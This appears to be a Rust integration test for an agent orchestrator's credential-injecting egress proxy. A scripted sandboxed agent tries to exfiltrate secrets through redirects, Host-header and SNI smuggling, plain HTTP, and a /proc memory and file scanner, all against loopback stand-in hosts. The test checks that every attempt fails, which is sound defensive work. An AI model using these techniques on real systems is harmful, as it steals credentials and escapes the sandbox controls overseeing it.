//! Credentials the egress proxy adds (issue 30), through `orch run`: the HTTPS stand-in
//! (`tests/standins/https_standin.py`) serves a private git repository behind HTTP
//! Basic, a bearer API with a redirect, an echo server and another host, all on
//! loopback (`ORCH_PROXY_RESOLVE` maps their names). A scripted agent clones and pushes,
//! calls the API, and tries every way to get the secret out; each attempt is checked on
//! the receiving side (the stand-in's request log, the bare repository) and the secret
//! is searched for, from outside, in everything orch writes and everything the sandbox
//! could read (its environment, files and the memory of every process it can open). The
//! landlock backend and the container backend, as root and (in `.ci/as-user.sh`) as a
//! normal user; `setup:` clones with a credential too.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)] // test code

use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use base64::Engine as _;
use serde_json::Value;

use crate::support::{Fixture, Run};

/// The client the agent runs: Python's standard library only, so that the container
/// image (bash, git, python3) has all it needs.
const CLIENT: &str = r#"import base64, json, os, socket, ssl, sys, urllib.error, urllib.parse, urllib.request

def get(url, verify="1"):
    ctx = ssl.create_default_context() if verify == "1" else ssl._create_unverified_context()
    try:
        with urllib.request.urlopen(urllib.request.Request(url), context=ctx, timeout=30) as r:
            print("STATUS", r.status)
            print(r.read().decode(errors="replace"))
            print("HEADERS", json.dumps(dict(r.headers)))
    except urllib.error.HTTPError as e:
        print("STATUS", e.code)
        print(e.read().decode(errors="replace"))
    except Exception as e:
        print("ERROR", type(e).__name__, e)

def raw(connect, sni, host, target, port):
    """CONNECT `connect`, TLS naming `sni` (unverified), one GET of `target` with `Host: host`."""
    u = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
    auth = base64.b64encode(("%s:%s" % (u.username, u.password)).encode()).decode()
    s = socket.create_connection((u.hostname, u.port), timeout=30)
    s.sendall(("CONNECT %s:%s HTTP/1.1\r\nHost: %s:%s\r\nProxy-Authorization: Basic %s\r\n\r\n"
               % (connect, port, connect, port, auth)).encode())
    head = b""
    while b"\r\n\r\n" not in head:
        c = s.recv(1)
        if not c:
            break
        head += c
    print("CONNECT", head.split(b"\r\n")[0].decode())
    if b" 200 " not in head.split(b"\r\n")[0] + b" ":
        return
    try:
        t = ssl._create_unverified_context().wrap_socket(s, server_hostname=sni)
        t.sendall(("GET %s HTTP/1.1\r\nHost: %s\r\nAuthorization: Bearer agent-own\r\nConnection: close\r\n\r\n"
                   % (target, host)).encode())
        data = b""
        while True:
            c = t.recv(65536)
            if not c:
                break
            data += c
        print(data.decode(errors="replace"))
    except Exception as e:
        print("ERROR", type(e).__name__, e)

def scan(masked, key):
    """Searches what this sandbox can read for the secrets (given XOR-masked, so that no
    other process holds them): environments, command lines, the memory of every process
    it can open, and the files under its home, tmp, working directory and CA bundle."""
    k = bytes.fromhex(key)
    secrets = [bytes(a ^ k[i % len(k)] for i, a in enumerate(bytes.fromhex(m))) for m in masked.split(",")]
    me, found, readable = os.getpid(), [], 0
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or int(pid) == me:
            continue
        for name in ("environ", "cmdline"):
            try:
                data = open("/proc/%s/%s" % (pid, name), "rb").read()
            except OSError:
                continue
            if any(x in data for x in secrets):
                found.append("%s/%s" % (pid, name))
        try:
            maps = open("/proc/%s/maps" % pid).read().splitlines()
            mem = open("/proc/%s/mem" % pid, "rb", 0)
        except OSError:
            continue
        readable += 1
        for line in maps:
            addr, perms = line.split()[:2]
            lo, hi = (int(x, 16) for x in addr.split("-"))
            if not perms.startswith("r") or hi - lo > 1 << 28:
                continue
            try:
                mem.seek(lo)
                data = mem.read(hi - lo)
            except (OSError, ValueError, OverflowError):
                continue
            if data and any(x in data for x in secrets):
                found.append("%s/mem" % pid)
    roots = [os.environ.get("HOME"), os.environ.get("TMPDIR"), os.getcwd(), "/tmp",
             os.path.dirname(os.environ.get("SSL_CERT_FILE", ""))]
    files = 0
    for root in filter(None, roots):
        for d, _, names in os.walk(root):
            for n in names:
                p = os.path.join(d, n)
                try:
                    if os.path.getsize(p) < 64 << 20:
                        files += 1
                        if any(x in open(p, "rb").read() for x in secrets):
                            found.append(p)
                except OSError:
                    pass
    if any(x in ("\0".join("%s=%s" % kv for kv in os.environ.items())).encode() for x in secrets):
        found.append("environment")
    print("SCAN readable=%d files=%d found=%s" % (readable, files, json.dumps(found)))

globals()[sys.argv[1]](*sys.argv[2:])
"#;

const USER: &str = "standin-user";

/// The stand-in, killed on drop.
struct Standin {
    child: Child,
    dir: PathBuf,
    port: u16,
}

impl Standin {
    fn start(dir: &Path, basic: &str, bearer: &str) -> Standin {
        let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/standins/https_standin.py");
        let child = Command::new("python3")
            .arg(script)
            .arg("--dir")
            .arg(dir)
            // In its environment, not on its command line, which the sandbox of a
            // normal user can read (`/proc/<pid>/cmdline`).
            .env("STANDIN_BASIC", basic)
            .env("STANDIN_BEARER", bearer)
            .stdout(Stdio::null())
            .stderr(Stdio::inherit())
            .spawn()
            .expect("python3 runs the HTTPS stand-in");
        let mut standin = Standin { child, dir: dir.to_path_buf(), port: 0 };
        let deadline = Instant::now() + Duration::from_secs(60);
        while Instant::now() < deadline {
            if let Ok(text) = std::fs::read_to_string(dir.join("port")) {
                standin.port = text.trim().parse().unwrap();
                return standin;
            }
            if let Ok(Some(status)) = standin.child.try_wait() {
                panic!("the HTTPS stand-in exited: {status}");
            }
            std::thread::sleep(Duration::from_millis(50));
        }
        panic!("the HTTPS stand-in did not start within 60 s");
    }

    /// Every request the stand-in received, as it logged them.
    fn requests(&self) -> Vec<Value> {
        std::fs::read_to_string(self.dir.join("requests.jsonl"))
            .unwrap_or_default()
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect()
    }

    /// The branches of the private repository.
    fn branches(&self) -> String {
        crate::support::git(&self.dir.join("git/private.git"), &["branch", "--list"])
    }
}

impl Drop for Standin {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// A random secret, different in each run.
fn secret(prefix: &str) -> String {
    let bytes: [u8; 12] = rand::random();
    format!("{prefix}-{}", bytes.iter().map(|b| format!("{b:02x}")).collect::<String>())
}

fn json_str(s: &str) -> String {
    serde_json::to_string(s).unwrap()
}

/// The secrets, XOR-masked with `key` (for `scan`).
fn masked(secrets: &[&str], key: &[u8]) -> String {
    let hex = |b: &[u8]| b.iter().map(|b| format!("{b:02x}")).collect::<String>();
    secrets
        .iter()
        .map(|s| hex(&s.bytes().enumerate().map(|(i, b)| b ^ key[i % key.len()]).collect::<Vec<u8>>()))
        .collect::<Vec<_>>()
        .join(",")
}

struct Case {
    fx: Fixture,
    standin: Standin,
    basic: String,
    token: String,
    bearer: String,
}

fn case(run_id: &str) -> Case {
    let fx = Fixture::new(run_id, &[("creds.py", CLIENT), ("README.md", "credentials\n")]);
    let token = secret("gitsecret");
    let basic = format!("{USER}:{token}");
    let bearer = secret("apisecret");
    let standin = Standin::start(&fx.dir.path().join("standin"), &basic, &bearer);
    Case { fx, standin, basic, token, bearer }
}

fn workflow(c: &Case, sandbox: &str) -> String {
    let p = c.standin.port;
    let ca = c.standin.dir.join("ca.pem");
    let ca = json_str(&ca.display().to_string());
    let hosts =
        "[git.example.test, api.example.test, echo.example.test, other.example.test, moved.example.test, 127.0.0.1]";
    let credentials = format!(
        "[{{ host: \"git.example.test:{p}\", basic_env: ORCH_TEST_GIT_BASIC, ca: {ca} }}, \
         {{ host: \"api.example.test:{p}\", bearer_env: ORCH_TEST_API_TOKEN, ca: {ca} }}, \
         {{ host: \"echo.example.test:{p}\", bearer_env: ORCH_TEST_API_TOKEN, ca: {ca} }}, \
         {{ host: \"moved.example.test:{p}\", bearer_env: ORCH_TEST_API_TOKEN, ca: {ca} }}]"
    );
    // `setup:` names no `ca`: its server is verified against the system's roots, which
    // the coordinator's SSL_CERT_FILE points at the stand-in's CA.
    let setup_credentials = format!("[{{ host: \"git.example.test:{p}\", basic_env: ORCH_TEST_GIT_BASIC }}]");
    format!(
        "version: 1\nname: creds\nsetup:\n  commands: [\"git clone -q https://git.example.test:{p}/private.git \
         $TMPDIR/setup-clone && test -f $TMPDIR/setup-clone/README && echo setup-cloned\"]\n  network: {{ allow: \
         {hosts}, credentials: {setup_credentials} }}\ndefaults:\n  tools: [Bash]\n  limits: {{ max_turns: 30, timeout: 5m \
         }}\n  sandbox: {sandbox}\nagents:\n  a:\n    prompt: Use the private services.\n    sandbox: {{ network: {{ \
         allow: {hosts}, deny: [denied.example.test], credentials: {credentials} }} }}\n"
    )
}

fn script(c: &Case) -> String {
    let p = c.standin.port;
    let key: [u8; 16] = rand::random();
    let encoded = base64::engine::general_purpose::STANDARD.encode(&c.basic);
    let scan = masked(&[&c.basic, &c.token, encoded.trim_end_matches('='), &c.bearer], &key);
    let key = key.iter().map(|b| format!("{b:02x}")).collect::<String>();
    let commands = [
        format!("echo ran-clone; git clone -q https://git.example.test:{p}/private.git clone && cat clone/README"),
        "echo ran-push; cd clone && echo agent > pushed.txt && git add pushed.txt && git -c user.name=a -c \
         user.email=a@example.test commit -q -m pushed && git push -q origin HEAD:refs/heads/agent-push && echo \
         pushed-ok; cd .. && rm -rf clone"
            .to_string(),
        format!("echo ran-api; /usr/bin/python3 creds.py get https://api.example.test:{p}/whoami"),
        // curl where the sandbox has it (the landlock backend sees the host's).
        format!(
            "echo ran-curl; if command -v curl >/dev/null; then curl -sS -m 20 https://api.example.test:{p}/whoami; \
             else echo no-curl; fi"
        ),
        format!("echo ran-echo; /usr/bin/python3 creds.py get https://echo.example.test:{p}/echo"),
        // A redirect from the API to another allowed host (followed, unverified so the
        // request is really sent) and to a denied one.
        format!(
            "echo ran-redirect; /usr/bin/python3 creds.py get 'https://api.example.test:{p}/redirect?to=https://other.example.test:{p}/exfil-redirect' 0"
        ),
        format!(
            "echo ran-redirect-denied; /usr/bin/python3 creds.py get 'https://api.example.test:{p}/redirect?to=https://denied.example.test:{p}/exfil-denied' 0"
        ),
        // The agent's own Authorization is replaced by the credential.
        format!(
            "echo ran-own; /usr/bin/python3 creds.py raw api.example.test api.example.test api.example.test:{p} /whoami {p}"
        ),
        // Inside the API's tunnel: a Host header, then an absolute-form target, naming
        // another host.
        format!(
            "echo ran-host; /usr/bin/python3 creds.py raw api.example.test api.example.test other.example.test:{p} /exfil-host {p}"
        ),
        format!(
            "echo ran-absolute; /usr/bin/python3 creds.py raw api.example.test api.example.test api.example.test:{p} \
             https://other.example.test:{p}/exfil-absolute {p}"
        ),
        // CONNECT for the API with a ClientHello for another name, and the reverse.
        format!(
            "echo ran-sni; /usr/bin/python3 creds.py raw api.example.test other.example.test other.example.test /exfil-sni {p}"
        ),
        format!(
            "echo ran-sni2; /usr/bin/python3 creds.py raw other.example.test api.example.test api.example.test /exfil-sni2 {p}"
        ),
        // A name whose address does not serve it (the stand-in has no certificate for it).
        format!("echo ran-moved; /usr/bin/python3 creds.py get https://moved.example.test:{p}/exfil-moved"),
        // Plain HTTP to the API: no TLS, so no credential.
        format!("echo ran-plain; /usr/bin/python3 creds.py get http://api.example.test:{p}/exfil-plain"),
        "echo ran-env; env | sort; cat \"$SSL_CERT_FILE\" | tail -n 3".to_string(),
        format!("echo ran-scan; /usr/bin/python3 creds.py scan {scan} {key}"),
    ];
    let turns: String = commands
        .iter()
        .map(|c| format!("    - tool_calls: [{{ name: Bash, input: {{ command: {} }} }}]\n", json_str(c)))
        .collect();
    format!("version: 1\nagents:\n  a:\n{turns}    - text: Done.\n  synthesis:\n    - text: Summary.\n")
}

fn output_of<'a>(results: &'a [(String, bool, String)], marker: &str) -> &'a str {
    &results
        .iter()
        .find(|(_, _, out)| out.starts_with(&format!("{marker}\n")))
        .unwrap_or_else(|| panic!("{marker} did not run: {results:#?}"))
        .2
}

/// Every file under `dir`, recursively (symlinks not followed).
fn files_under(dir: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    let Ok(entries) = std::fs::read_dir(dir) else { return out };
    for entry in entries.flatten() {
        let path = entry.path();
        match entry.file_type() {
            Ok(t) if t.is_dir() => out.extend(files_under(&path)),
            Ok(t) if t.is_file() => out.push(path),
            _ => {}
        }
    }
    out
}

fn run_case(run_id: &str, sandbox: &str) {
    let c = case(run_id);
    let p = c.standin.port;
    let summary = c.fx.write("summary.md", "");
    let resolve = "git.example.test=127.0.0.1;api.example.test=127.0.0.1;echo.example.test=127.0.0.1;\
                   other.example.test=127.0.0.1;moved.example.test=127.0.0.1;denied.example.test=127.0.0.1";
    let out =
        c.fx.command(&workflow(&c, sandbox), &script(&c))
            .env("ORCH_PROXY_RESOLVE", resolve)
            .env("ORCH_TEST_GIT_BASIC", &c.basic)
            .env("ORCH_TEST_API_TOKEN", &c.bearer)
            .env("GITHUB_ACTIONS", "true")
            .env("GITHUB_STEP_SUMMARY", &summary)
            .env("SSL_CERT_FILE", c.standin.dir.join("ca.pem"))
            .output()
            .unwrap();
    let run = Run::from_output(&c.fx.out, out);
    run.expect_code(0);
    let a = run.tool_results("a");

    // The use cases: clone, push and the API work from inside the sandbox.
    assert!(output_of(&a, "ran-clone").contains("private repository"), "{a:#?}");
    assert!(output_of(&a, "ran-push").contains("pushed-ok"), "{a:#?}");
    assert!(c.standin.branches().contains("agent-push"), "the push reached the repository: {}", c.standin.branches());
    let api = output_of(&a, "ran-api");
    assert!(api.contains("STATUS 200") && api.contains("api-user"), "{api}");
    let curl = output_of(&a, "ran-curl");
    assert!(curl.contains("api-user") || (sandbox.contains("container") && curl.contains("no-curl")), "{curl}");
    let setup_log = std::fs::read_to_string(c.fx.out.join("setup.log")).unwrap_or_default();
    assert!(setup_log.contains("setup-cloned"), "setup cloned with its credential: {setup_log}");

    // The receiving side: what each host was sent.
    let requests = c.standin.requests();
    let auth = |r: &Value| {
        let headers = r["headers"].as_object().unwrap();
        let values: Vec<&str> = headers
            .iter()
            .filter(|(k, _)| k.eq_ignore_ascii_case("authorization"))
            .filter_map(|(_, v)| v.as_str())
            .collect();
        values.join("\n")
    };
    let to = |host: &str| -> Vec<&Value> {
        requests.iter().filter(|r| r["host"].as_str().unwrap_or_default().starts_with(host)).collect()
    };
    let basic_header = format!("Basic {}", base64::engine::general_purpose::STANDARD.encode(&c.basic));
    assert!(to("git.example.test").iter().any(|r| auth(r) == basic_header), "git got the credential");
    assert!(to("api.example.test").iter().any(|r| auth(r) == format!("Bearer {}", c.bearer)), "the API got it");
    // The agent's own Authorization never reaches the credential's host.
    assert!(!requests.iter().any(|r| auth(r).contains("agent-own")), "{requests:#?}");
    // The echo server received the credential, and the agent did not get it back.
    assert!(to("echo.example.test").iter().any(|r| auth(r) == format!("Bearer {}", c.bearer)), "{requests:#?}");
    let echo = output_of(&a, "ran-echo");
    assert!(echo.contains("STATUS 200") && echo.contains("Bearer ****"), "the echo came back redacted: {echo}");
    // Another host gets no credential, whatever the route.
    for r in to("other.example.test") {
        assert!(auth(r).is_empty(), "a request to another host carried a credential: {r:#}");
    }
    assert!(to("other.example.test").iter().any(|r| r["path"] == "/exfil-redirect"), "the redirect was followed");
    for path in ["/exfil-host", "/exfil-absolute", "/exfil-sni", "/exfil-sni2", "/exfil-moved", "/exfil-denied"] {
        assert!(!requests.iter().any(|r| r["path"] == path), "{path} reached the stand-in: {requests:#?}");
    }
    for r in requests.iter().filter(|r| r["path"] == "/exfil-plain") {
        assert!(auth(r).is_empty(), "plain HTTP carried a credential: {r:#}");
    }
    assert!(to("denied.example.test").is_empty(), "{requests:#?}");
    assert!(to("moved.example.test").is_empty(), "{requests:#?}");
    assert!(output_of(&a, "ran-own").contains("api-user"), "{a:#?}");
    assert!(output_of(&a, "ran-host").contains("421"), "{a:#?}");
    assert!(output_of(&a, "ran-absolute").contains("421"), "{a:#?}");

    // What the sandbox can read holds no secret; it could open some processes' memory.
    let scan = output_of(&a, "ran-scan");
    assert!(scan.contains("found=[]"), "the sandbox can read a secret: {scan}");
    assert!(!scan.contains("readable=0 "), "the scan opened no process's memory, so it proves nothing: {scan}");
    let env = output_of(&a, "ran-env");
    assert!(
        env.contains("SSL_CERT_FILE=") && env.contains("GIT_SSL_CAINFO=") && env.contains("NODE_EXTRA_CA_CERTS="),
        "{env}"
    );
    assert!(env.contains("-----END CERTIFICATE-----"), "{env}");

    // Nothing orch wrote holds a secret: transcripts, reports, the step summary, the
    // repository, the worktrees; stdout and stderr only in the `::add-mask::` lines.
    let encoded = base64::engine::general_purpose::STANDARD.encode(&c.basic);
    let forms = [c.basic.as_str(), c.token.as_str(), encoded.trim_end_matches('='), c.bearer.as_str()];
    let mut searched = 0;
    for root in [c.fx.out.as_path(), c.fx.repo.as_path(), summary.parent().unwrap()] {
        for file in files_under(root) {
            if file.starts_with(&c.standin.dir) {
                continue; // the receiving side
            }
            let Ok(bytes) = std::fs::read(&file) else { continue };
            searched += 1;
            for form in forms {
                assert!(memchr::memmem::find(&bytes, form.as_bytes()).is_none(), "{} holds a secret", file.display());
            }
        }
    }
    assert!(searched > 5, "only {searched} files searched");
    for line in run.stdout.lines().chain(run.stderr.lines()) {
        if !line.starts_with("::add-mask::") {
            for form in forms {
                assert!(!line.contains(form), "orch printed a secret: {line}");
            }
        }
    }
    assert!(
        run.stdout.contains(&format!("::add-mask::{}", c.bearer))
            || run.stderr.contains(&format!("::add-mask::{}", c.bearer))
    );

    // The transcript and the report say a credential was added, never its value.
    let decisions: Vec<Value> = run.events("a").into_iter().filter(|e| e["type"] == "network").collect();
    assert!(
        decisions.iter().any(|e| e["host"] == "git.example.test" && e["credentials"].as_u64().unwrap_or(0) > 0),
        "{decisions:#?}"
    );
    assert!(decisions.iter().any(|e| e["allowed"] == false && e["host"] == "other.example.test"), "{decisions:#?}");
    let contacted = run.agent("a")["network"]["contacted"].as_array().unwrap().clone();
    assert!(
        contacted
            .iter()
            .any(|h| h["host"] == "api.example.test" && h["port"] == p && h["credentials"].as_u64() > Some(0)),
        "{contacted:#?}"
    );
}

#[test]
fn landlock_agents_use_credentials_they_cannot_read() {
    run_case("t-cred-ll", "{ backend: landlock }");
}

#[test]
fn container_agents_use_credentials_they_cannot_read() {
    if std::env::var("ORCH_SKIP_DOCKER_TESTS").as_deref() == Ok("1") {
        eprintln!("ORCH_SKIP_DOCKER_TESTS=1: skipping the container credentials test");
        return;
    }
    let image = std::env::var("ORCH_TEST_IMAGE").unwrap_or_else(|_| "orch-test:tools".into());
    run_case("t-cred-ct", &format!("{{ backend: container, image: \"{image}\" }}"));
}

/// A credential for a host the allowlist does not allow, an unset variable, a value
/// written in the workflow: each fails `orch validate` (and `orch run`) with exit 2 and
/// says where and what to do.
#[test]
fn bad_credentials_fail_validation() {
    let fx = Fixture::new("t-cred-bad", &[("README.md", "x\n")]);
    let cases = [
        ("{ host: git.example.com, basic_env: ORCH_TEST_SET }", "allow: [other.example.com]", "does not allow"),
        ("{ host: git.example.com, bearer_env: ORCH_TEST_UNSET_VAR }", "allow: [git.example.com]", "is not set"),
        ("{ host: git.example.com, bearer_env: ORCH_TEST_EMPTY }", "allow: [git.example.com]", "is not set"),
        ("{ host: git.example.com, token: ghp_abc }", "allow: [git.example.com]", "unknown key `token`"),
        ("{ host: git.example.com, basic_env: \"user:ghp_abc\" }", "allow: [git.example.com]", "not a variable name"),
        ("{ host: \"*.example.com\", bearer_env: ORCH_TEST_SET }", "allow: [\"*.example.com\"]", "exact host name"),
        ("{ host: git.example.com }", "allow: [git.example.com]", "exactly one of"),
        (
            "{ host: git.example.com, bearer_env: ORCH_TEST_SET }",
            "allow: [git.example.com], deny: [git.example.com]",
            "does not allow",
        ),
    ];
    for (credential, lists, expected) in cases {
        let wf = format!(
            "version: 1\nagents:\n  a:\n    prompt: x\n    sandbox: {{ network: {{ {lists}, credentials: [{credential}] }} }}\n"
        );
        let path = fx.write("bad.yaml", &wf);
        let out = crate::support::orch()
            .arg("validate")
            .arg(&path)
            .env("ORCH_TEST_SET", "value")
            .env("ORCH_TEST_EMPTY", "")
            .env_remove("ORCH_TEST_UNSET_VAR")
            .output()
            .unwrap();
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{credential}: {stderr}");
        assert!(stderr.contains(expected), "{credential}: expected `{expected}` in: {stderr}");
    }
    // The same workflow with the variable set validates.
    let wf = "version: 1\nagents:\n  a:\n    prompt: x\n    sandbox: { network: { allow: [git.example.com], credentials: [{ host: git.example.com, bearer_env: ORCH_TEST_SET }] } }\n";
    let path = fx.write("good.yaml", wf);
    let out = crate::support::orch().arg("validate").arg(&path).env("ORCH_TEST_SET", "value").output().unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
}
